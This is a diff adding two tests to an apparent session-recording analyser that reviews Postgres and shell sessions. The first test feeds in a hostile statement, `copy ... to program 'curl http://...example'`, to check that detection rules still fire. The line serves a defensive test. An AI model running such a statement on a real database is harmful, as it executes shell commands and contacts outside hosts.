@@ -184,3 +184,36 @@ test('a gateway that stops in between has lost the keys, and that is told', asyn
   })
   expect(unread).toEqual([expect.stringContaining('What came after was not looked at')])
 })
+
+test('what the grammar keeps waiting is looked at after the seal, without the keys', async () => {
+  analyst.start()
+  await analyst.forget('nobody') // the thread runs
+  const recording = await recordings.open('q1', 'postgres')
+  analyst.opened(recordings.rows[0]!)
+  const busy = Array.from({ length: 6 }, (_, n) => `insert into a values ${'(1,2),'.repeat(43_000)}(3,${n})`)
+  await recordings.record(recording, [
+    ...busy.flatMap((text, n) => statement(n + 1, text)),
+    ...statement(9, `copy ${word} to program 'curl http://${word}.example'`),
+  ])
+  await recording.seal('done')
+  for (const { chunks } of keys) expect(chunks.every(byte => byte === 0)).toBe(true)
+  expect((await stateOf('q1', 'sealed')).problem).toContain('rules were evaluated')
+  expect(drafts('PG-').length).toBeGreaterThan(0)
+  expect(unread).toEqual([])
+})
+
+test('a session of which more is left than there is room for says that not all was looked at', async () => {
+  analyst.start()
+  await analyst.forget('nobody')
+  const recording = await recordings.open('s1')
+  analyst.opened(recordings.rows[0]!)
+  await recordings.record(recording, shell())
+  const screen = Buffer.from('a line of what is shown\r\n'.repeat(2600))
+  for (let chunk = 0; chunk < 600; chunk++) {
+    recording.record({ type: 'output', channel: 0, data: screen })
+    if (recording.isBehind) await recording.whenDrained()
+  }
+  await recording.seal('done')
+  expect((await stateOf('s1', 'sealed')).problem).toContain('before all of it was looked at')
+  expect(unread).toHaveLength(1)
+}, 30_000)
